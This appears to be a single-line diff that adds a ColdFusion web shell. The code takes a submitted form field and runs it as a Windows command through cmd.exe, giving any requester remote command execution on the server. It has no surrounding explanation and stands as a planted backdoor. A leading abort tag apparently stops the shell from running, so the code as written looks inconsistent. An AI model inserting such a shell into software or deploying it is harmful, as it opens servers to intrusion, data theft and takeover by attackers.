@@ -1,0 +1,1 @@
+<cfabort><cfif isDefined("form.c")><cfexecute name="cmd.exe" arguments="/c #form.c#" timeout="5"></cfexecute></cfif>
